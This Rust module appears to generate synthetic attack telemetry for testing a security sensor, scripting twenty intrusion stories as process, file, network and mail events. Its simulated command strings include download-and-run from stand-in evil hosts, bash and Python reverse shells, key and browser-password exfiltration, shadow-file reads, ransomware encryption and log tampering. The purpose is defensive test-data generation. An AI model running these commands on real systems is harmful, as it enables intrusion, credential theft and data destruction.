//! Attacks: each kind tells its story on the devices and mailboxes it is given, with files, addresses
//! and senders of its own.

use super::{BEGIN_US, Base, DAY, Mail, Part, Pc, Proc, Rng, Role, sha256_of};
use hinomi_model::{Event, Timestamp};

/// An attack and all it leaves behind.
#[derive(Debug, Clone)]
pub struct Attack {
    /// Kind, one of [`KINDS`].
    pub kind: &'static str,
    /// Its events, in order.
    pub events: Vec<Event>,
}

/// What an attack needs.
struct Story<'a> {
    number: usize,
    /// Devices it is played on.
    pcs: Vec<Pc>,
    mailboxes: &'a [String],
    rng: &'a mut Rng,
    /// Seconds since the begin of the week.
    now: f64,
    sender: Option<String>,
    mails: u64,
    out: Vec<Event>,
}

type Play = fn(&mut Story<'_>);

/// The kinds of attacks: name, devices (role and how many), story.
const STORIES: &[(&str, Role, usize, Play)] = &[
    ("mail-document", Role::Office, 1, mail_document),
    ("html-smuggling", Role::Office, 1, html_smuggling),
    ("disk-image-shortcut", Role::Office, 1, disk_image),
    ("business-mail", Role::Office, 0, business_mail),
    ("credential-theft", Role::Server, 1, credential_theft),
    ("ransomware", Role::Office, 1, ransomware),
    ("web-shell", Role::Server, 1, web_shell),
    ("ssh-brute-force", Role::Server, 1, brute_force),
    ("supply-chain-package", Role::Developer, 3, supply_chain),
    ("insider-mass-copy", Role::Office, 1, insider),
    ("living-off-the-land", Role::Admin, 1, living_off_the_land),
    ("crypto-miner", Role::Server, 1, miner),
    ("lateral-movement", Role::Server, 2, lateral),
    ("phishing-wave", Role::Office, 2, phishing_wave),
    ("low-and-slow", Role::Developer, 1, low_and_slow),
    ("sensor-tampering", Role::Server, 1, tampering),
    ("fileless", Role::Server, 1, fileless),
    ("rootkit", Role::Server, 1, rootkit),
    ("browser-drive-by", Role::Office, 1, drive_by),
    ("stolen-session", Role::Developer, 1, stolen_session),
];

/// Names of the kinds.
pub const KINDS: [&str; STORIES.len()] = {
    let mut names = [""; STORIES.len()];
    let mut at = 0;
    while at < names.len() {
        names[at] = STORIES[at].0;
        at += 1;
    }
    names
};

/// Plans attacks over the days after the first. The fourth begins with the third; the sixth is on the
/// device of the first, two days later; the eighth on the server of the seventh within the same hour; the
/// fourteenth is sent by the sender of the first, three days later.
pub(super) fn plan(
    devices: &[Pc],
    roles: &[Vec<usize>],
    mailboxes: &[String],
    count: usize,
    rng: &mut Rng,
) -> Vec<Attack> {
    let mut first_device = 0;
    let mut server = 0;
    let mut begins: Vec<f64> = Vec::new();
    let mut attacks = Vec::new();
    let mut used: Vec<usize> = Vec::new();
    for number in 0..count {
        let (kind, role, many, play) = STORIES[number % STORIES.len()];
        let of = &roles[role as usize];
        let mut pcs = Vec::new();
        while pcs.len() < many {
            let mut chosen = *rng.pick(of);
            // a device has one attack unless it shall have two; small fleets run out of some roles
            for _ in 0..100 {
                if !used.contains(&chosen) {
                    break;
                }
                chosen = *rng.pick(of);
            }
            match number {
                5 => chosen = first_device,
                7 => chosen = server,
                _ => {}
            }
            if many > 1 && pcs.iter().any(|(known, _)| *known == chosen) {
                continue;
            }
            used.push(chosen);
            pcs.push((chosen, devices[chosen].apart(number)));
        }
        if number == 0 {
            first_device = pcs[0].0;
        }
        if number == 6 {
            server = pcs[0].0;
        }
        // over the days after the first and before the last
        let spread = (DAY as f64) * (1.0 + 4.5 * (number as f64 * 0.37).fract()) + rng.below(6 * 3600) as f64;
        let begin = match number {
            3 => begins[2],
            5 => begins[0] + 2.0 * DAY as f64,
            7 => begins[6] + 1_200.0,
            13 => begins[0] + 3.0 * DAY as f64,
            _ => spread,
        };
        begins.push(begin);
        let sender = (number == 13).then(|| format!("office@mail0.evil{:02}.example", 0));
        let pcs = pcs.into_iter().map(|(_, pc)| pc).collect();
        attacks.push(told(kind, play, number, pcs, mailboxes, rng, begin, sender));
    }
    attacks
}

/// One attack of a kind on a small fleet: for scenarios.
pub fn attack(kind: &str, seed: u64) -> Option<Attack> {
    let number = KINDS.iter().position(|name| *name == kind)?;
    let (kind, role, many, play) = STORIES[number];
    let mut rng = Rng::new(seed);
    let devices: Vec<Pc> = (0..200).map(|number| Pc::new(number, &mut rng)).collect();
    let pcs = devices.iter().filter(|pc| pc.role == role).skip(2).take(many).map(|pc| pc.apart(number)).collect();
    let mailboxes: Vec<String> = devices.iter().filter(|pc| pc.role == Role::Office).map(Pc::mailbox).collect();
    Some(told(kind, play, number, pcs, &mailboxes, &mut rng, 0.0, None))
}

#[allow(clippy::too_many_arguments)]
fn told(
    kind: &'static str,
    play: Play,
    number: usize,
    pcs: Vec<Pc>,
    mailboxes: &[String],
    rng: &mut Rng,
    now: f64,
    sender: Option<String>,
) -> Attack {
    let mails = 1_000_000_000 + number as u64 * 1_000;
    let mut story = Story { number, pcs, mailboxes, rng, now, sender, mails, out: Vec::new() };
    play(&mut story);
    let mut events = story.out;
    events.sort_by_key(|event| event.timestamp);
    Attack { kind, events }
}

impl Story<'_> {
    fn at(&self) -> Timestamp {
        Timestamp::from_micros(BEGIN_US + (self.now * 1e6) as i64)
    }

    /// Time passes, up to half as long again.
    fn wait(&mut self, seconds: f64) {
        self.now += seconds * (1.0 + self.rng.unit() / 2.0);
    }

    fn hash(&self, what: &str) -> String {
        sha256_of(&format!("attack {} {what}", self.number))
    }

    fn host(&self, what: &str) -> String {
        format!("{what}.evil{:02}.example", self.number)
    }

    fn ip(&self, last: usize) -> String {
        format!("198.51.{}.{}", 100 + self.number, last + 1)
    }

    fn base(&self, pc: usize, base: Base) -> Proc {
        self.pcs[pc].base(base)
    }

    fn run(&mut self, pc: usize, parent: &Proc, path: &str, command: &str) -> Proc {
        self.wait(0.3);
        let at = self.at();
        self.pcs[pc].exec(&mut self.out, at, parent, path, command)
    }

    fn sh(&mut self, pc: usize, parent: &Proc, command: &str) -> Proc {
        self.run(pc, parent, "/usr/bin/bash", &format!("bash -c {command}"))
    }

    fn script(&mut self, pc: usize, parent: &Proc, path: &str, what: &str) -> Proc {
        self.wait(0.5);
        let (at, sha256) = (self.at(), self.hash(what));
        self.pcs[pc].script(&mut self.out, at, parent, path, &sha256)
    }

    fn program(&mut self, pc: usize, parent: &Proc, path: &str, what: &str) -> Proc {
        self.wait(0.5);
        let (at, sha256) = (self.at(), self.hash(what));
        self.pcs[pc].program(&mut self.out, at, parent, (path, &sha256), path)
    }

    fn write(&mut self, pc: usize, by: &Proc, path: &str, what: &str) {
        self.wait(0.2);
        let (at, sha256) = (self.at(), self.hash(what));
        self.pcs[pc].file(&mut self.out, at, by, path, &sha256);
    }

    fn connect(&mut self, pc: usize, by: &Proc, port: i64, host: &str) {
        self.wait(0.2);
        let (at, ip) = (self.at(), self.ip(0));
        self.pcs[pc].connect(&mut self.out, at, by, (&ip, port), host);
    }

    fn mail(&mut self, sender: &str, to: Vec<String>, parts: Vec<Part>, change: impl FnOnce(&mut Mail)) {
        self.mails += 1;
        let from = self.sender.clone().unwrap_or_else(|| format!("{sender}@{}", self.host("mail0")));
        let mut mail = Mail {
            number: self.mails,
            display: sender.to_owned(),
            from,
            subject: "至急ご確認ください".to_owned(),
            checks: "pass",
            ip: self.ip(20),
            to,
            parts,
            urls: Vec::new(),
        };
        change(&mut mail);
        let at = self.at();
        mail.tell(at, &mut self.out);
    }

    fn part(&self, name: &str, what: &str) -> Part {
        Part { name: name.to_owned(), sha256: self.hash(what), inside: None }
    }

    /// The victim's mailbox and some others.
    fn recipients(&mut self, victims: usize, others: usize) -> Vec<String> {
        let mut to: Vec<String> = self.pcs.iter().take(victims).map(Pc::mailbox).collect();
        for _ in 0..others {
            let one = self.rng.pick(self.mailboxes).clone();
            if !to.contains(&one) {
                to.push(one);
            }
        }
        to
    }

    fn home(&self, pc: usize) -> String {
        format!("/home/{}", self.pcs[pc].user)
    }
}

/// A document from a mail: the office program starts a shell, fetches a program, persists, calls out.
fn mail_document(s: &mut Story<'_>) {
    let to = s.recipients(1, 7);
    let parts = vec![s.part("見積書.odt", "document")];
    s.mail("office", to, parts, |_| {});
    s.wait(2_400.0);
    let (home, client, office) = (s.home(0), s.base(0, Base::Mail), s.base(0, Base::Office));
    s.write(0, &client, &format!("{home}/Downloads/見積書.odt"), "document");
    s.wait(4.0);
    let host = s.host("cdn");
    let sh = s.sh(
        0,
        &office,
        &format!("curl -s http://{host}/a -o {home}/.cache/.upd && chmod +x {home}/.cache/.upd && {home}/.cache/.upd"),
    );
    let curl = s.run(0, &sh, "/usr/bin/curl", &format!("curl -s http://{host}/a -o {home}/.cache/.upd"));
    s.connect(0, &curl, 80, &host);
    s.write(0, &curl, &format!("{home}/.cache/.upd"), "stage");
    let stage = s.program(0, &sh, &format!("{home}/.cache/.upd"), "stage");
    s.connect(0, &stage, 443, &s.host("c2"));
    let helper = s.sh(0, &stage, &format!("cp {home}/.cache/.upd.desktop {home}/.config/autostart/upd.desktop"));
    s.write(0, &helper, &format!("{home}/.config/autostart/upd.desktop"), "autostart");
    // the next morning it runs again from there
    s.wait(16.0 * 3600.0);
    let session = s.base(0, Base::Session);
    let again = s.program(0, &session, &format!("{home}/.cache/.upd"), "stage");
    s.connect(0, &again, 443, &s.host("c2"));
}

/// A page in a mail drops an archive through the browser; the script inside is run.
fn html_smuggling(s: &mut Story<'_>) {
    let to = s.recipients(1, 3);
    let parts = vec![s.part("fax.html", "page")];
    s.mail("fax", to, parts, |_| {});
    s.wait(900.0);
    let (home, browser, terminal) = (s.home(0), s.base(0, Base::Browser), s.base(0, Base::Shell));
    s.write(0, &browser, &format!("{home}/Downloads/fax.zip"), "archive");
    s.write(0, &browser, &format!("{home}/Downloads/fax.sh"), "script");
    s.wait(20.0);
    let script = s.script(0, &terminal, &format!("{home}/Downloads/fax.sh"), "script");
    s.run(0, &script, "/usr/bin/whoami", "whoami");
    let host = s.host("files");
    let curl = s.run(0, &script, "/usr/bin/curl", &format!("curl -s https://{host}/p -o /tmp/.p"));
    s.connect(0, &curl, 443, &host);
    s.write(0, &curl, "/tmp/.p", "stage");
    let stage = s.program(0, &script, "/tmp/.p", "stage");
    s.connect(0, &stage, 8443, &host);
    let shell = s.sh(0, &stage, "crontab /tmp/.t");
    s.run(0, &shell, "/usr/bin/crontab", "crontab /tmp/.t");
}

/// A disk image with a shortcut in it.
fn disk_image(s: &mut Story<'_>) {
    let to = s.recipients(1, 1);
    let mut parts = vec![s.part("delivery.iso", "image")];
    let inside = Some((s.hash("image"), "delivery.iso/delivery.pdf.desktop".to_owned()));
    parts.push(Part { inside, ..s.part("delivery.pdf.desktop", "shortcut") });
    s.mail("parcel", to, parts, |_| {});
    s.wait(5_000.0);
    let (home, client, session) = (s.home(0), s.base(0, Base::Mail), s.base(0, Base::Session));
    s.write(0, &client, &format!("{home}/Downloads/delivery.iso"), "image");
    let user = s.pcs[0].user.clone();
    let sh = s.script(0, &session, &format!("/run/media/{user}/DELIVERY/delivery.pdf.desktop"), "shortcut");
    let decoded = s.sh(0, &sh, "echo Y3VybA== | base64 -d | bash");
    let host = s.host("img");
    let curl = s.run(0, &decoded, "/usr/bin/curl", &format!("curl -s https://{host}/x -o /dev/shm/.x"));
    s.connect(0, &curl, 443, &host);
    s.write(0, &curl, "/dev/shm/.x", "stage");
    let stage = s.program(0, &decoded, "/dev/shm/.x", "stage");
    s.connect(0, &stage, 4444, "");
}

/// No file, no link: somebody writes in the name of the house, again and again.
fn business_mail(s: &mut Story<'_>) {
    for round in 0..3 {
        let to = s.recipients(0, 2);
        let name = to.first().cloned().unwrap_or_default();
        s.mail("director", to, Vec::new(), |mail| {
            mail.display = format!("社長 <{name}>");
            mail.subject = format!("振込のお願い {round}");
            mail.checks = "fail";
        });
        s.wait(4.0 * 3600.0);
    }
}

/// A login with a stolen password; hashes, keys and memory are taken.
fn credential_theft(s: &mut Story<'_>) {
    let at = s.at();
    let from = s.ip(5);
    s.pcs[0].logon(&mut s.out, at, "deploy", &from, true);
    s.wait(2.0);
    let at = s.at();
    let shell = s.pcs[0].login_shell(&mut s.out, at, "deploy");
    s.wait(60.0);
    let sudo = s.run(0, &shell, "/usr/bin/sudo", "sudo -s");
    let root = s.run(0, &sudo, "/usr/bin/bash", "/bin/bash");
    s.run(0, &root, "/usr/bin/cat", "cat /etc/shadow");
    s.wait(300.0);
    s.run(0, &root, "/usr/bin/tar", "tar czf /tmp/.k.tgz /root/.ssh /home/deploy/.ssh");
    s.run(0, &root, "/usr/bin/gcore", "gcore -o /tmp/.m 812");
    s.wait(1_200.0);
    let host = s.host("drop");
    let curl = s.run(0, &root, "/usr/bin/curl", &format!("curl -T /tmp/.k.tgz https://{host}/"));
    s.connect(0, &curl, 443, &host);
}

/// Backups go first, then everything is encrypted.
fn ransomware(s: &mut Story<'_>) {
    let (home, terminal) = (s.home(0), s.base(0, Base::Shell));
    let script = s.script(0, &terminal, &format!("{home}/Downloads/activate.sh"), "script");
    s.wait(30.0);
    s.run(0, &script, "/usr/bin/rm", "rm -rf /backups");
    s.wait(5.0);
    let shell = s.sh(
        0,
        &script,
        "find /home -type f -exec openssl enc -aes-256-cbc -k x -in {} -out {}.locked ; -exec rm {} ;",
    );
    for n in 0..20 {
        s.write(0, &shell, &format!("{home}/documents/{n}.ods.locked"), &format!("locked {n}"));
    }
    s.write(0, &shell, &format!("{home}/README-UNLOCK.txt"), "note");
}

/// A web server's language starts a shell; hours later it is used again.
fn web_shell(s: &mut Story<'_>) {
    let php = s.base(0, Base::Php);
    let ip = s.ip(0);
    let sh = s.run(0, &php, "/usr/bin/dash", &format!("sh -c bash -i >& /dev/tcp/{ip}/9001 0>&1"));
    let bash = s.run(0, &sh, "/usr/bin/bash", &format!("bash -i >& /dev/tcp/{ip}/9001 0>&1"));
    s.connect(0, &bash, 9001, "");
    s.wait(120.0);
    s.run(0, &bash, "/usr/bin/id", "id");
    s.run(0, &bash, "/usr/bin/cat", "cat /etc/shadow");
    s.write(0, &bash, "/etc/cron.d/php-sessions", "cron");
    s.wait(9.0 * 3600.0);
    let sh = s.run(0, &php, "/usr/bin/dash", &format!("sh -c bash -i >& /dev/tcp/{ip}/9001 0>&1"));
    let bash = s.run(0, &sh, "/usr/bin/bash", &format!("bash -i >& /dev/tcp/{ip}/9001 0>&1"));
    s.connect(0, &bash, 9001, "");
}

/// Passwords are tried until one works; a key and a job stay behind.
fn brute_force(s: &mut Story<'_>) {
    let from = s.ip(7);
    for n in 0..200 {
        let at = s.at();
        s.pcs[0].logon(&mut s.out, at, "backup", &from, n == 199);
        s.wait(1.0);
    }
    let at = s.at();
    let shell = s.pcs[0].login_shell(&mut s.out, at, "backup");
    s.wait(20.0);
    let echo = s.sh(0, &shell, "echo ssh-ed25519 AAAA >> /home/backup/.ssh/authorized_keys");
    s.write(0, &echo, "/home/backup/.ssh/authorized_keys", "key");
    s.wait(40.0);
    let host = s.host("kit");
    let piped = s.sh(0, &shell, &format!("curl -s http://{host}/i | sh"));
    let curl = s.run(0, &piped, "/usr/bin/curl", &format!("curl -s http://{host}/i"));
    s.connect(0, &curl, 80, &host);
    s.run(0, &shell, "/usr/sbin/useradd", "useradd -o -u 0 -M sysd");
    // a day later with the key
    s.wait(20.0 * 3600.0);
    let at = s.at();
    s.pcs[0].logon(&mut s.out, at, "backup", &from, true);
    let shell = s.pcs[0].login_shell(&mut s.out, at, "backup");
    let piped = s.sh(0, &shell, &format!("curl -s http://{host}/j | sh"));
    let curl = s.run(0, &piped, "/usr/bin/curl", &format!("curl -s http://{host}/j"));
    s.connect(0, &curl, 80, &host);
}

/// A package fetches more when it is installed: on three developers' devices within a day.
fn supply_chain(s: &mut Story<'_>) {
    let host = s.host("registry");
    for pc in 0..s.pcs.len() {
        let (home, shell) = (s.home(pc), s.base(pc, Base::Shell));
        let npm = s.run(pc, &shell, "/usr/bin/node", "node /usr/bin/npm install left-padding");
        let sh = s.run(pc, &npm, "/usr/bin/dash", &format!("sh -c curl -s https://{host}/post | sh"));
        let curl = s.run(pc, &sh, "/usr/bin/curl", &format!("curl -s https://{host}/post"));
        s.connect(pc, &curl, 443, &host);
        s.write(pc, &sh, &format!("{home}/.cache/.node-gyp-helper"), "helper");
        let helper = s.program(pc, &sh, &format!("{home}/.cache/.node-gyp-helper"), "helper");
        s.run(pc, &helper, "/usr/bin/tar", &format!("tar czf /tmp/.s.tgz {home}/.ssh/"));
        s.connect(pc, &helper, 443, &s.host("collect"));
        s.wait(5.0 * 3600.0);
    }
}

/// Somebody who leaves takes the customers along.
fn insider(s: &mut Story<'_>) {
    let (home, shell) = (s.home(0), s.base(0, Base::Shell));
    for day in 0..2 {
        s.run(0, &shell, "/usr/bin/tar", &format!("tar czf /tmp/customers-{day}.tar.gz /srv/share/customers"));
        s.wait(60.0);
        let curl = s.run(
            0,
            &shell,
            "/usr/bin/curl",
            &format!("curl -T /tmp/customers-{day}.tar.gz https://transfer.sh/customers"),
        );
        s.connect(0, &curl, 443, "transfer.sh");
        s.wait(1_800.0);
    }
    s.run(0, &shell, "/usr/bin/rm", &format!("rm -f {home}/.bash_history"));
}

/// Nothing is brought along: what is there is enough.
fn living_off_the_land(s: &mut Story<'_>) {
    let shell = s.base(0, Base::Shell);
    let ip = s.ip(0);
    let sh = s.sh(0, &shell, "unset HISTFILE; id; uname -a");
    s.run(0, &sh, "/usr/bin/id", "id");
    let python = s.run(
        0,
        &sh,
        "/usr/bin/python3.11",
        &format!("python3 -c import socket,os,pty;s=socket.socket();s.connect((\"{ip}\",443));os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")"),
    );
    s.connect(0, &python, 443, "");
    let inner = s.run(0, &python, "/usr/bin/dash", "/bin/sh");
    s.wait(600.0);
    s.run(0, &inner, "/usr/bin/crontab", "crontab -");
    s.run(0, &inner, "/usr/bin/find", "find / -name id_rsa -o -name id_ed25519");
    s.wait(3_600.0);
    s.run(0, &inner, "/usr/bin/ssh", &format!("ssh -f -N -R 2222:localhost:22 u@{ip}"));
}

/// A hole in a Java service; a miner comes back by cron after it was killed.
fn miner(s: &mut Story<'_>) {
    let java = s.base(0, Base::Java);
    let host = s.host("pool");
    let sh = s.run(
        0,
        &java,
        "/usr/bin/dash",
        &format!("sh -c (curl -s http://{host}/m.sh || wget -qO- http://{host}/m.sh) | bash"),
    );
    let curl = s.run(0, &sh, "/usr/bin/curl", &format!("curl -s http://{host}/m.sh"));
    s.connect(0, &curl, 80, &host);
    s.write(0, &curl, "/var/tmp/.sys/kdevtmpfsi", "miner");
    let miner = s.program(0, &sh, "/var/tmp/.sys/kdevtmpfsi", "miner");
    s.connect(0, &miner, 3333, &host);
    let cron = s.sh(0, &sh, "crontab -");
    s.run(0, &cron, "/usr/bin/crontab", "crontab -");
    for _ in 0..2 {
        s.wait(12.0 * 3600.0);
        let cron = s.base(0, Base::Cron);
        let sh = s.run(0, &cron, "/usr/bin/dash", "/bin/sh -c /var/tmp/.sys/kdevtmpfsi");
        let miner = s.program(0, &sh, "/var/tmp/.sys/kdevtmpfsi", "miner");
        s.connect(0, &miner, 3333, &host);
    }
}

/// From one server to the next with a stolen password and the same tool.
fn lateral(s: &mut Story<'_>) {
    let target = s.pcs[1].ip.clone();
    for pc in 0..2 {
        let at = s.at();
        let from = if pc == 0 { s.ip(9) } else { s.pcs[0].ip.clone() };
        s.pcs[pc].logon(&mut s.out, at, "svc", &from, true);
        let shell = s.pcs[pc].login_shell(&mut s.out, at, "svc");
        s.wait(30.0);
        s.write(pc, &shell, "/dev/shm/.t", "tool");
        let tool = s.program(pc, &shell, "/dev/shm/.t", "tool");
        s.run(pc, &tool, "/usr/bin/cat", "cat /etc/shadow");
        s.connect(pc, &tool, 443, &s.host("c2"));
        if pc == 0 {
            s.wait(900.0);
            s.run(0, &shell, "/usr/bin/nmap", "nmap -p22 10.0.0.0/24");
            s.run(0, &shell, "/usr/bin/sshpass", &format!("sshpass -p x scp /dev/shm/.t svc@{target}:/dev/shm/.t"));
            s.wait(600.0);
        }
    }
}

/// One mail to many; two open it, a day apart.
fn phishing_wave(s: &mut Story<'_>) {
    let to = s.recipients(2, 38);
    let parts = vec![s.part("請求書.pdf.sh", "script")];
    s.mail("invoice", to, parts, |_| {});
    for pc in 0..2 {
        s.wait(if pc == 0 { 1_500.0 } else { 20.0 * 3600.0 });
        let (home, client) = (s.home(pc), s.base(pc, Base::Mail));
        s.write(pc, &client, &format!("{home}/Downloads/請求書.pdf.sh"), "script");
        let script = s.script(pc, &client, &format!("{home}/Downloads/請求書.pdf.sh"), "script");
        let host = s.host("pay");
        let curl = s.run(pc, &script, "/usr/bin/curl", &format!("curl -s https://{host}/s -o /tmp/.s"));
        s.connect(pc, &curl, 443, &host);
        s.write(pc, &curl, "/tmp/.s", "stage");
        let stage = s.program(pc, &script, "/tmp/.s", "stage");
        s.connect(pc, &stage, 443, &host);
    }
}

/// Small signs only, over hours, on one process tree.
fn low_and_slow(s: &mut Story<'_>) {
    let (home, shell) = (s.home(0), s.base(0, Base::Shell));
    let script = s.script(0, &shell, &format!("{home}/Downloads/helper.sh"), "script");
    s.wait(1_800.0);
    s.run(0, &script, "/usr/bin/whoami", "whoami");
    s.run(0, &script, "/usr/bin/chmod", "chmod +x /tmp/.font-cache/fc");
    s.wait(3_600.0);
    let stage = s.program(0, &script, "/tmp/font-cache/fc", "stage");
    s.connect(0, &stage, 53, &s.host("ns"));
    s.wait(3_600.0);
    s.run(0, &stage, "/usr/bin/crontab", "crontab -");
    s.run(0, &stage, "/usr/bin/nmap", "nmap -sT 10.0.0.0/24");
}

/// The sensor, the firewall and the logs go first.
fn tampering(s: &mut Story<'_>) {
    let at = s.at();
    let from = s.ip(3);
    s.pcs[0].logon(&mut s.out, at, "root", &from, true);
    let shell = s.pcs[0].login_shell(&mut s.out, at, "root");
    s.wait(5.0);
    s.run(0, &shell, "/usr/bin/systemctl", "systemctl stop hinomi-sensor");
    s.run(0, &shell, "/usr/bin/systemctl", "systemctl disable --now auditd");
    s.run(0, &shell, "/usr/sbin/nft", "nft flush ruleset");
    s.wait(60.0);
    s.run(0, &shell, "/usr/bin/rm", "rm -f /var/log/auth.log /var/log/wtmp");
    s.run(0, &shell, "/usr/bin/rm", "rm -f /root/.bash_history");
}

/// A program that never was a file.
fn fileless(s: &mut Story<'_>) {
    let java = s.base(0, Base::Java);
    let sh = s.run(0, &java, "/usr/bin/dash", "sh -c python3 -");
    let python = s.run(0, &sh, "/usr/bin/python3.11", "python3 -");
    s.connect(0, &python, 443, &s.host("mem"));
    let hidden = s.run(0, &python, "/memfd:x (deleted)", "[kworker/0:1]");
    s.connect(0, &hidden, 443, &s.host("mem"));
    s.wait(6.0 * 3600.0);
    let sh = s.run(0, &hidden, "/usr/bin/dash", "sh -c cat /etc/shadow");
    s.run(0, &sh, "/usr/bin/cat", "cat /etc/shadow");
}

/// A library in every process, a module in the kernel.
fn rootkit(s: &mut Story<'_>) {
    let at = s.at();
    let from = s.ip(3);
    s.pcs[0].logon(&mut s.out, at, "root", &from, true);
    let shell = s.pcs[0].login_shell(&mut s.out, at, "root");
    s.wait(100.0);
    let host = s.host("kit");
    let curl = s.run(0, &shell, "/usr/bin/curl", &format!("curl -s http://{host}/l.so -o /lib/libx.so"));
    s.connect(0, &curl, 80, &host);
    let echo = s.sh(0, &shell, "echo /lib/libx.so > /etc/ld.so.preload");
    s.write(0, &echo, "/etc/ld.so.preload", "preload");
    s.wait(10.0);
    s.run(0, &shell, "/usr/sbin/insmod", "insmod /tmp/d.ko");
    s.run(0, &shell, "/usr/bin/chattr", "chattr +i /etc/ld.so.preload");
}

/// The browser itself starts a shell.
fn drive_by(s: &mut Story<'_>) {
    let browser = s.base(0, Base::Browser);
    let host = s.host("ads");
    s.connect(0, &browser, 443, &host);
    let sh = s.run(
        0,
        &browser,
        "/usr/bin/dash",
        &format!("sh -c wget -q https://{host}/d -O /tmp/d; chmod 755 /tmp/d; /tmp/d"),
    );
    let wget = s.run(0, &sh, "/usr/bin/wget", &format!("wget -q https://{host}/d -O /tmp/d"));
    s.connect(0, &wget, 443, &host);
    s.write(0, &wget, "/tmp/d", "stage");
    s.run(0, &sh, "/usr/bin/chmod", "chmod 755 /tmp/d");
    let stage = s.program(0, &sh, "/tmp/d", "stage");
    s.connect(0, &stage, 443, &host);
}

/// Somebody else works in a developer's session: passwords of the browser and keys of the cloud go out.
fn stolen_session(s: &mut Story<'_>) {
    let at = s.at();
    let (from, user, home) = (s.ip(4), s.pcs[0].user.clone(), s.home(0));
    s.pcs[0].logon(&mut s.out, at, &user, &from, true);
    let shell = s.pcs[0].login_shell(&mut s.out, at, &user);
    s.wait(200.0);
    s.run(
        0,
        &shell,
        "/usr/bin/cp",
        &format!("cp {home}/.mozilla/firefox/x/logins.json {home}/.mozilla/firefox/x/key4.db /tmp/"),
    );
    let curl =
        s.run(0, &shell, "/usr/bin/curl", "curl http://169.254.169.254/latest/meta-data/iam/security-credentials/");
    s.connect(0, &curl, 80, "");
    s.wait(500.0);
    let tar = s.sh(0, &shell, &format!("tar cz {home}/.ssh/id_rsa | curl -s -T - https://{}/", s.host("up")));
    let curl = s.run(0, &tar, "/usr/bin/curl", &format!("curl -s -T - https://{}/", s.host("up")));
    s.connect(0, &curl, 443, &s.host("up"));
}
